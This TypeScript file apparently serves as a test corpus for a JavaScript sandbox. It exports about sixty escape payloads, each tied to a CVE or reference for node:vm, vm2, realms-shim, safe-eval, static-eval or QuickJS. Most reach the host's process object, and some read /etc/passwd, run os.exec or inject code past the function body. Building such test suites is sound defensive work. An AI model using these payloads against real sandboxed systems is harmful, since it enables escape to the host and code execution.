/** A known way out of a sandbox: its source, and a program that returns what it reached. */
export interface Escape {
  readonly name: string;
  readonly source: string;
  readonly code: string;
}

const NODE_VM = "https://nodejs.org/api/vm.html (the module is no security mechanism)";
const LANGUAGE = "ECMA-262: a way to the global object or to code that the sandbox did not see";
const REALMS = "https://www.figma.com/blog/an-update-on-plugin-security/";

/** Sixty attempts, most of which leave `node:vm`, vm2, realms, or evaluators of expressions. */
export const ESCAPES: readonly Escape[] = (
  [
    ["constructor of this", NODE_VM, `return this?.constructor?.constructor("return process")()`],
    ["constructor of an argument", NODE_VM, `return arguments[0]?.constructor.constructor("return process")()`],
    ["constructor of arguments", NODE_VM, `return arguments.constructor.constructor("return process")()`],
    ["callee's caller", NODE_VM, `function f() { return f.caller.constructor("return process")() } return f()`],
    ["Function", LANGUAGE, `return Function("return process")()`],
    ["Function and globalThis", LANGUAGE, `return Function("return this")().process`],
    ["indirect eval", LANGUAGE, `return (0, eval)("process")`],
    ["indirect eval of this", LANGUAGE, `return (0, eval)("this").process`],
    ["AsyncFunction", LANGUAGE, `return await (async () => {}).constructor("return process")()`],
    ["GeneratorFunction", LANGUAGE, `return (function* () {}).constructor("return process")().next().value`],
    [
      "AsyncGeneratorFunction",
      LANGUAGE,
      `return (await (async function* () {}).constructor("yield process")().next()).value`,
    ],
    ["dynamic import", "CVE-2023-39532 (SES)", `return (await import("node:process")).default`],
    ["dynamic import of fs", "CVE-2023-39532 (SES)", `return (await import("fs")).readFileSync("/etc/passwd", "utf8")`],
    [
      "import behind a comment",
      "CVE-2023-39532 (SES)",
      `return (await Function("return import/**/('node:process')")()).default`,
    ],
    ["import.meta", LANGUAGE, `return eval("import.meta.url")`],
    ["require", NODE_VM, `return require("node:process")`],
    ["main module", NODE_VM, `return process.mainModule.require("child_process")`],
    ["binding", NODE_VM, `return process.binding("fs")`],
    ["constructor of tools", "CVE-2019-10761 (vm2)", `return tools.echo.constructor("return process")()`],
    [
      "constructor of a promise of a tool",
      "CVE-2023-37466 (vm2)",
      `return tools.echo({}).constructor.constructor("return process")()`,
    ],
    [
      "constructor of a result",
      "CVE-2023-37466 (vm2)",
      `return (await tools.echo({})).constructor.constructor("return process")()`,
    ],
    [
      "constructor of an error of the host",
      "CVE-2023-29017 (vm2)",
      `try { await tools.fail({}) } catch (e) { return e.constructor.constructor("return process")() }`,
    ],
    [
      "constructor of an error's message",
      "CVE-2023-29017 (vm2)",
      `try { await tools.fail({}) } catch (e) { return e.message.constructor.constructor("return process")() }`,
    ],
    ["constructor of console", NODE_VM, `return console.log.constructor("return process")()`],
    [
      "prepareStackTrace",
      "CVE-2022-36067 (vm2)",
      `Error.prepareStackTrace = (_, sites) => sites[0].getThis(); return new Error().stack?.process`,
    ],
    [
      "prepareStackTrace of an async error",
      "CVE-2023-29017 (vm2)",
      `let s; Error.prepareStackTrace = (_, c) => { s = c }; try { await tools.fail({}) } catch (e) { void e.stack } return s?.map((c) => c.getFunction?.())[0]?.constructor("return process")()`,
    ],
    [
      "replaced Error of a stack",
      "CVE-2022-36067 (vm2)",
      `globalThis.Error = { prepareStackTrace: (_, c) => c[0].getThis() }; try { null.x } catch (e) { return e.stack.process }`,
    ],
    [
      "stack overflow in the host",
      "CVE-2023-30547 (vm2)",
      `function f(n) { try { return f(n + 1) } catch (e) { return e.constructor.constructor("return process")() } } return f(0)`,
    ],
    [
      "stack overflow in a call",
      "CVE-2023-29199 (vm2)",
      `function f() { try { f() } catch { try { tools.echo({}) } catch (e) { globalThis.e = e } } } f(); return globalThis.e?.constructor.constructor("return process")()`,
    ],
    [
      "error of a proxy",
      "CVE-2023-30547 (vm2)",
      `const p = new Proxy({}, { getPrototypeOf() { throw new Error("x") } }); try { p instanceof Object } catch (e) { return e.constructor.constructor("return process")() }`,
    ],
    [
      "inspect",
      "CVE-2023-32314 (vm2)",
      `const o = { [Symbol.for("nodejs.util.inspect.custom")]: (_d, _o, inspect) => { globalThis.i = inspect } }; console.log(o); return globalThis.i?.constructor("return process")()`,
    ],
    [
      "species of a promise",
      "CVE-2023-37466 (vm2)",
      `const p = tools.echo({}); p.constructor = { [Symbol.species]: class { constructor(x) { x((v) => (globalThis.v = v), (e) => (globalThis.v = e)) } } }; p.then(() => {}); await tools.echo({}); return globalThis.v?.constructor.constructor("return process")()`,
    ],
    [
      "replaced then",
      "CVE-2021-23449 (vm2)",
      `Promise.prototype.then = function (f) { globalThis.f = f; return f?.constructor("return process")() }; return tools.echo({}).then(() => {})`,
    ],
    [
      "replaced Promise",
      "CVE-2021-23555 (vm2)",
      `globalThis.Promise = class { constructor(x) { globalThis.x = x } }; tools.echo({}); return globalThis.x?.constructor("return process")()`,
    ],
    [
      "getter on the prototype of objects",
      "CVE-2022-25893 (vm2)",
      `Object.defineProperty(Object.prototype, "process", { get() { return this.constructor.constructor("return process")() } }); return {}.process`,
    ],
    [
      "setter for the fields of a message",
      "GHSA-7jg2-jgv3-fmr4 (realms-shim)",
      `Object.defineProperty(Object.prototype, "code", { set(v) { globalThis.seen = this } }); try { await tools.fail({}) } catch {} return globalThis.seen?.constructor.constructor("return process")()`,
    ],
    [
      "polluted arrays",
      "CVE-2021-23543 (realms-shim)",
      `Array.prototype.push = function (v) { globalThis.a = this }; tools.echo({}); return globalThis.a?.constructor.constructor("return process")()`,
    ],
    [
      "polluted map",
      "CVE-2021-23594 (realms-shim)",
      `Map.prototype.get = function () { return this.constructor.constructor("return process")() }; return await tools.echo({})`,
    ],
    [
      "polluted apply",
      "CVE-2021-23594 (realms-shim)",
      `Function.prototype.apply = Function.prototype.call = function () { globalThis.g = this }; tools.echo({}); return globalThis.g?.constructor("return process")()`,
    ],
    [
      "polluted JSON",
      REALMS,
      `JSON.parse = (text) => { globalThis.t = text }; await tools.echo({}); return globalThis.t?.constructor.constructor("return process")()`,
    ],
    [
      "toJSON that receives the host",
      REALMS,
      `let me; await tools.echo({ toJSON() { me = this; return {} } }); return me.constructor.constructor("return process")()`,
    ],
    [
      "getter of an input",
      REALMS,
      `let me; await tools.echo({ get a() { me = new Error().stack; return 1 } }); return /node:|\\.js/.test(me) ? me : undefined`,
    ],
    [
      "proxy as an input",
      REALMS,
      `let r; await tools.echo(new Proxy({}, { get: (_t, _k, receiver) => { r ??= receiver; return undefined } })); return r?.constructor?.constructor("return process")()`,
    ],
    ["proxy as a name", REALMS, `return await tools[{ toString: () => "constructor" }]("return process")`],
    ["tool called constructor", "CVE-2017-16088 (safe-eval)", `return await tools.constructor("return process")`],
    [
      "tool called __proto__",
      "CVE-2017-16088 (safe-eval)",
      `return await tools.__proto__.constructor("return process")()`,
    ],
    [
      "prototype of tools",
      "CVE-2023-26121 (safe-eval)",
      `return Object.getPrototypeOf(tools)?.constructor.constructor("return process")()`,
    ],
    [
      "descriptor of tools",
      "CVE-2023-26122 (safe-eval)",
      `return Object.getOwnPropertyDescriptor(tools, "echo")?.value.constructor("return process")()`,
    ],
    ["__defineGetter__", "CVE-2022-25904 (safe-eval)", `return {}.__defineGetter__.constructor("return process")()`],
    [
      "__lookupGetter__",
      "CVE-2023-26122 (safe-eval)",
      `return {}.__lookupGetter__("__proto__").constructor("return process")()`,
    ],
    [
      "valueOf in a key",
      "CVE-2021-23771 (notevil)",
      `const key = { n: 0, toString() { return this.n++ === 0 ? "a" : "constructor" } }; return {}[key]?.[key]?.constructor?.("return process")()`,
    ],
    ["coerced name", "CVE-2017-16226 (static-eval)", `return ((x) => x)["const" + "ructor"]("return process")()`],
    ["tagged template", "CVE-2017-16226 (static-eval)", `return Function\`return process\`()`],
    [
      "end of the function's body",
      "https://owasp.org/www-community/attacks/Code_Injection",
      `}); globalThis.out = this; (async () => {`,
    ],
    [
      "shared memory",
      "https://v8.dev/blog/atomics",
      `return new SharedArrayBuffer(8).constructor.constructor("return process")()`,
    ],
    [
      "WebAssembly",
      "https://webassembly.org/docs/security/",
      `return WebAssembly.Memory.constructor("return process")()`,
    ],
    [
      "weak references",
      "https://github.com/tc39/proposal-weakrefs",
      `return new WeakRef({}).constructor.constructor("return process")()`,
    ],
    [
      "modules of QuickJS",
      "https://bellard.org/quickjs/quickjs.html (std, os)",
      `return (await import("std")).getenv("PATH")`,
    ],
    [
      "globals of QuickJS",
      "https://bellard.org/quickjs/quickjs.html (std, os)",
      `return std.loadFile("/etc/passwd") ?? os.exec(["id"])`,
    ],
    [
      "worker of QuickJS",
      "https://bellard.org/quickjs/quickjs.html (std, os)",
      `return new os.Worker("x").constructor.constructor("return process")()`,
    ],
  ] as const
).map(([name, source, code]) => ({ name, source, code }));
